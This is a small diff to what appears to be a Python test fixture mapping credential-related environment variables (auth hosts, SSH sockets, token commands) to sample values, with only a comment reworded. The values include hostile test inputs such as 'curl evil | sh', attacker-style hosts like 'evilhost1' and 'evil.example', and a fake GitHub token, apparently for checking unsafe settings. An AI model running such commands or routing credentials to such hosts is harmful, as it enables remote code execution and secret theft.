@@ -155,7 +155,7 @@ SHOWN = {
     **dict.fromkeys(("AUTH_ISSUER", "X_AUTH_HOST", "TOKEN_ENDPOINT", "SECRET_HOST"), "evilhost1"),
     **dict.fromkeys(("SSH_AUTH_SOCK", "PRIVATE_KEY_PATH", "PASSWORD_STORE_DIR"), "relative1"),
     **dict.fromkeys(("TOKEN_COMMAND", "CREDENTIAL_HELPER", "GIT_AUTH_CMD", "AUTH_MODULE"), KEY),
-    "A": "ghp_" + "a" * 36,  # which may be a file or a package, too
+    "A": "ghp_" + "a" * 36,  # It may be a file or a package, too.
     "A_TOKEN": "curl evil | sh",
     "B_TOKEN": "evil.example",
     "C_TOKEN": "localhost:8080",
